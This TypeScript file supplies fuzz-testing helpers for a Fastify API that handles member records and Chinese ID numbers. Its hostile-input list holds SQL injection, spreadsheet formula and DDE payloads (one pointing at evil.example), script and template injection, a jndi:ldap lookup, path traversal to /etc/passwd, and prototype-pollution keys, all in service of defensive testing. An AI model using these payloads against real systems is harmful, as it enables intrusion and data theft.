import fc from 'fast-check';
import type { LightMyRequestResponse } from 'fastify';
import { expect } from 'vitest';
import { ErrorCode } from '../../src/platform/http/app-error.ts';
import { makeResidentId, residentIdCheckChar } from '../../src/modules/members/resident-id.ts';

/**
 * Shared pieces of the input fuzzing (DOMAIN §12 DB-11): the seed, hostile values, a generator
 * that follows a route's JSON schema closely enough to get past validation into the service code,
 * and the check that every refusal is a well-formed 4xx.
 */

/** One fixed seed so a run is repeatable; TUANWU_FUZZ_SEED picks another (a failure prints the one used). */
export const FUZZ_SEED = Number(process.env.TUANWU_FUZZ_SEED ?? 20260511);

/**
 * Run a property with the project's seed; a failure names the seed and how to replay it. Failures
 * are not shrunk (each step is a request) unless TUANWU_FUZZ_SHRINK=1 asks for a smaller example.
 */
export async function assertFuzz<T>(property: fc.IAsyncPropertyWithHooks<T>, numRuns: number): Promise<void> {
  try {
    await fc.assert(property, { seed: FUZZ_SEED, numRuns, endOnFailure: process.env.TUANWU_FUZZ_SHRINK !== '1' });
  } catch (error) {
    // Counterexamples may hold strings of 100,000 characters: the head says enough.
    const message = (error instanceof Error ? error.message : String(error)).slice(0, 3000);
    const cause = error instanceof Error && error.cause instanceof Error ? `\nwhich failed: ${error.cause.message.slice(0, 2000)}` : '';
    throw new Error(`fuzzing failed with TUANWU_FUZZ_SEED=${FUZZ_SEED} (rerun with that variable to replay)\n${message}${cause}`);
  }
}

/** Text people and attackers send: unicode, control characters, SQL, spreadsheet formulas, markup, huge strings. */
export const nastyString: fc.Arbitrary<string> = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom(
    '', ' ', '\u0000', '\t\r\n', '\u202e\u0644\u0639\u0631\u0628\u064a\u0629', '👨‍👩‍👧‍👦🀄', '\uFFFD\uFEFF', '\ud800', 'Ａ１２３　',
    "' or 1=1 --", "'; drop table member; --", '"); delete from transfer; --', '1; select pg_sleep(5)', '%00', '%27%20or%201%3D1',
    '=HYPERLINK("http://evil.example","x")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,1)', '<script>alert(1)</script>', '{{7*7}}', '${jndi:ldap://x}',
    '../../etc/passwd', 'C:\\Windows\\win.ini', 'null', 'undefined', 'NaN', 'true', '[]', '{}', '0x7fffffff', '1e309', '-0', '٣', '１２３',
    '2026-02-30', '0000-00-00', '9999-12-31', '1899-12-31', '+275760-09-13T00:00:00.000Z', '2026-13-01', '2026-1-1', '20260101',
  ),
  fc.integer({ min: 1, max: 70_000 }).map((n) => '团'.repeat(n)),
  fc.integer({ min: 1, max: 300_000 }).map((n) => 'a'.repeat(n)),
);

/** Numbers at and past every boundary a database or JSON parser has. */
export const nastyNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(0, -0, -1, 1, 0.5, -0.5, 2147483647, 2147483648, -2147483649, 4294967296, Number.MAX_SAFE_INTEGER, Number.MAX_SAFE_INTEGER + 2, -Number.MAX_SAFE_INTEGER, 1e21, 1e308, -1e308, 5e-324, 1.7976931348623157e308),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

/** Any JSON value, biased towards the hostile ones, nested up to a few levels. */
export const nastyValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    nastyString,
    nastyNumber,
    fc.constantFrom(null, true, false),
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(fc.oneof(nastyString.filter((k) => k.length < 100), fc.constantFrom('__proto__', 'constructor', 'prototype', 'id', '$where')), tie('value'), { maxKeys: 4 }),
  ),
})).value;

/** ID numbers: valid GB 11643 numbers of any birth date, wrong check digits, wrong lengths, 15-digit ones. */
export const idNumber: fc.Arbitrary<string> = fc.oneof(
  fc.record({
    region: fc.constantFrom('510107', '510104', '110105', '440305', '999999', '000000'),
    birth: fc.date({ min: new Date('1900-01-01'), max: new Date('2099-12-31'), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10)),
    sequence: fc.integer({ min: 0, max: 999 }),
    sex: fc.constantFrom('male' as const, 'female' as const),
    spoil: fc.boolean(),
  }).map(({ region, birth, sequence, sex, spoil }) => {
    const valid = makeResidentId(region, birth, sequence, sex);
    if (!spoil) return valid;
    const wrong = '0123456789X'.replace(residentIdCheckChar(valid.slice(0, 17)), '');
    return valid.slice(0, 17) + wrong[sequence % wrong.length];
  }),
  fc.stringMatching(/^\d{15}$/),
  fc.stringMatching(/^[0-9Xx]{16,19}$/),
  nastyString,
);

type JsonSchema = {
  type?: string; const?: unknown; anyOf?: JsonSchema[]; allOf?: JsonSchema[]; enum?: unknown[]; properties?: Record<string, JsonSchema>; required?: string[];
  items?: JsonSchema; minItems?: number; maxItems?: number; minimum?: number; maximum?: number; minLength?: number; maxLength?: number; format?: string;
  pattern?: string; additionalProperties?: boolean | JsonSchema;
};

/** Real values by property name (ids of records that exist, known ID numbers), so generated requests reach the service code. */
export type ValuePools = Record<string, fc.Arbitrary<unknown>>;

/**
 * Values shaped by a JSON schema. Valid mode keeps to the schema (real ids from the pools where
 * given), so requests get past validation into the service code; hostile mode (the default) is
 * often just outside a limit, sometimes anything at all (`nastyValue`) at any depth, and objects
 * sometimes miss a required property or carry an extra one.
 */
export function fromSchema(schema: unknown, pools: ValuePools = {}, options: { valid?: boolean; name?: string } = {}): fc.Arbitrary<unknown> {
  const shaped = shapedBy(schema as JsonSchema, pools, options.name ?? '', options.valid ?? false);
  return options.valid ? shaped : fc.oneof({ weight: 6, arbitrary: shaped }, { weight: 1, arbitrary: nastyValue });
}

function shapedBy(s: JsonSchema, pools: ValuePools, name: string, valid: boolean): fc.Arbitrary<unknown> {
  const pool = pools[name];
  const child = (schema: JsonSchema, childName = name) => fromSchema(schema, pools, { valid, name: childName });
  /** Mostly `usual`; in hostile mode the edges and beyond as often as not. */
  const mix = (usual: fc.Arbitrary<unknown>, edges: fc.Arbitrary<unknown>) => (valid ? usual : fc.oneof({ weight: 3, arbitrary: usual }, { weight: 2, arbitrary: edges }));
  if (s.const !== undefined) return fc.constant(s.const);
  if (s.enum) return fc.constantFrom(...s.enum);
  if (s.anyOf) return fc.oneof(...s.anyOf.map((branch) => shapedBy(branch, pools, name, valid)));
  if (s.allOf) return fc.tuple(...s.allOf.map((part) => shapedBy(part, pools, name, valid))).map((parts) => Object.assign({}, ...parts.filter((p) => p && typeof p === 'object')));
  switch (s.type) {
    case 'object': return objectOf(s, pools, valid);
    case 'array': {
      const min = s.minItems ?? 0;
      const items = fc.array(child(s.items ?? {}), { minLength: min, maxLength: Math.min(s.maxItems ?? 6, min + 6) });
      if (s.maxItems === undefined || s.maxItems > 2000) return items;
      return mix(items, fc.array(shapedBy(s.items ?? {}, pools, name, true), { minLength: s.maxItems + 1, maxLength: s.maxItems + 1 }));
    }
    case 'integer': {
      const min = s.minimum ?? -(2 ** 31);
      const max = s.maximum ?? 2 ** 31 - 1;
      const usual = pool ? fc.oneof({ weight: 9, arbitrary: pool }, fc.integer({ min, max })) : fc.integer({ min, max });
      return mix(usual, fc.constantFrom(min, max, min - 1, max + 1));
    }
    case 'number': {
      const min = s.minimum ?? -1e12;
      const max = s.maximum ?? 1e12;
      return mix(fc.double({ min, max, noNaN: true }), fc.constantFrom(min, max, min - 0.001, max + 1));
    }
    case 'string': {
      if (s.format === 'uuid') return valid ? fc.uuid() : fc.oneof(fc.uuid(), nastyString);
      const min = s.minLength ?? 0;
      const max = Math.min(s.maxLength ?? 60, 2000);
      // Valid text is counted in code points, as the schema counts; a grapheme may hold several.
      const text = valid
        ? fc.oneof(fc.string({ unit: 'binary', minLength: min, maxLength: max }), fc.string({ unit: 'grapheme-ascii', minLength: min, maxLength: max }))
        : fc.oneof(fc.string({ unit: 'grapheme', minLength: min, maxLength: max }), fc.string({ unit: 'grapheme-ascii', minLength: min, maxLength: max }));
      const usual = pool ? fc.oneof({ weight: 9, arbitrary: pool }, text) : text;
      return mix(usual, fc.constantFrom('x'.repeat(max + 1), '团'.repeat(max + 1), 'x'.repeat(Math.max(0, min - 1)), ' '.repeat(Math.max(min, 1))));
    }
    case 'boolean': return fc.boolean();
    case 'null': return fc.constant(null);
    default: return pool ?? (valid ? fc.constant(undefined) : nastyValue);
  }
}

function objectOf(s: JsonSchema, pools: ValuePools, valid: boolean): fc.Arbitrary<Record<string, unknown>> {
  const properties = Object.entries(s.properties ?? {});
  const required = new Set(s.required ?? []);
  const entries = properties.map(([key, schema]) => {
    const entry = fromSchema(schema, pools, { valid, name: key }).map((value) => [key, value] as const);
    // Optional properties come half the time; in hostile mode a required one is left out one time in eight.
    if (required.has(key)) return valid ? entry : fc.option(entry, { freq: 8, nil: undefined });
    return fc.option(entry, { freq: 1, nil: undefined });
  });
  const extra = valid ? fc.constant(undefined) : fc.option(fc.tuple(fc.oneof(nastyString.filter((k) => k.length > 0 && k.length < 50), fc.constantFrom('isAdmin', 'status', 'createdBy', '__proto__')), nastyValue), { freq: 6, nil: undefined });
  return fc.tuple(fc.tuple(...entries), extra).map(([picked, more]) => {
    const object: Record<string, unknown> = {};
    for (const entry of picked) if (entry) object[entry[0]] = entry[1];
    // defineProperty, so "__proto__" becomes an own key of the JSON sent, as an attacker would send it.
    if (more) Object.defineProperty(object, more[0], { value: more[1], enumerable: true, configurable: true, writable: true });
    return object;
  });
}

/** A generated value as URL text: objects as JSON (a generated object may carry a `toString` that is no function). */
export function asText(value: unknown): string {
  return typeof value === 'object' && value !== null ? JSON.stringify(value) : String(value);
}

/** A generated value as one path segment; lone surrogates, which no URL can carry, become U+FFFD as a browser sends them. */
export function pathSegment(value: unknown): string {
  return encodeURIComponent(asText(value).replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd'));
}

/** A query string from generated values: arrays repeat the key, objects are sent as JSON text. */
export function queryString(values: Record<string, unknown>): string {
  const search = new URLSearchParams();
  for (const [key, value] of Object.entries(values)) {
    for (const one of Array.isArray(value) ? value : [value]) search.append(key, asText(one));
  }
  const text = search.toString();
  return text ? `?${text}` : '';
}

const HAN = /\p{Script=Han}/u;

/**
 * The checks on every answer: never a 5xx; a refusal carries a known machine code and a message
 * in Chinese and English; VALIDATION_FAILED names each field with both languages.
 */
export function expectWellFormed(response: LightMyRequestResponse, what: string): void {
  expect(response.statusCode, `${what} → ${response.statusCode} ${response.body.slice(0, 500)}`).toBeLessThan(500);
  if (response.statusCode < 400) return;
  const body = response.json() as { error?: { code?: string; message?: string; messageEn?: string; fields?: { field?: string; message?: string; messageEn?: string }[] } };
  const error = body.error;
  expect(error, `${what}: error body ${response.statusCode} ${response.body.slice(0, 300)}`).toBeDefined();
  expect(Object.values(ErrorCode), `${what}: code in ${response.statusCode} ${response.body.slice(0, 300)}`).toContain(error!.code);
  expect(error!.message, `${what}: Chinese message`).toMatch(HAN);
  expect(error!.messageEn, `${what}: English message`).toMatch(/[A-Za-z]/);
  if (error!.code === 'VALIDATION_FAILED') {
    expect(error!.fields?.length ?? 0, `${what}: VALIDATION_FAILED names its fields ${response.body.slice(0, 300)}`).toBeGreaterThan(0);
    for (const field of error!.fields!) {
      expect(typeof field.field, `${what}: field name`).toBe('string');
      expect(field.message, `${what}: ${field.field} in Chinese`).toMatch(HAN);
      expect(field.messageEn, `${what}: ${field.field} in English`).toMatch(/[A-Za-z]/);
    }
  }
}
